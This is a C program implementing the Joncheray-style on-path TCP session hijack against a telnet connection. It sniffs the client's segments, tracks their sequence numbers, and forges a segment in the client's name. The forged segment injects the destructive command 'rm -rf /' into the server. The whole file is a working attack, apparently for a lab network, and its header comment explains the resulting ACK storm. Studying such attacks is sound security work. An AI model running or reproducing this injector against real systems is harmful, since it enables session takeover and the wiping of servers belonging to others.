/* On-path hijack (Joncheray 1995): whoever sees a connection knows its numbers, and can say the next words in the name of one
   end. From then on the two ends disagree about what was said, and each corrects the other for ever: the ACK storm. */
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include "segment.h"
#include "tap.h"

#define CLIENT "10.0.0.10"
#define SERVER "10.0.0.2"
#define PORT 23

int main(void) {
  int in = tap("eth0"), out = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), lines = 0, at, end;
  unsigned char f[1514], client[4], *t;
  unsigned int seq, ack;

  inet_pton(AF_INET, CLIENT, client);
  for (;;) {
    recv(in, f, sizeof f, 0);
    at = 14 + (f[14] & 15) * 4;
    t = f + at;
    end = 14 + (f[16] << 8 | f[17]);
    if (f[12] != 8 || f[13] != 0 || f[23] != IPPROTO_TCP || memcmp(f + 26, client, 4) != 0 || (t[2] << 8 | t[3]) != PORT)
      continue;
    seq = (unsigned int)t[4] << 24 | t[5] << 16 | t[6] << 8 | t[7];
    ack = (unsigned int)t[8] << 24 | t[9] << 16 | t[10] << 8 | t[11];
    seq += end - at - (t[12] >> 4) * 4;
    if (end > at + (t[12] >> 4) * 4)
      lines++;
    else if (lines >= 2)
      break; /* the client has said its second line, and heard the answer: nothing is on its way */
  }
  segment(out, CLIENT, t[0] << 8 | t[1], SERVER, PORT, seq, ack, ACK | PSH, "rm -rf / # with greetings\n");
  puts("said in the client's name: rm -rf /");
  return 0;
}
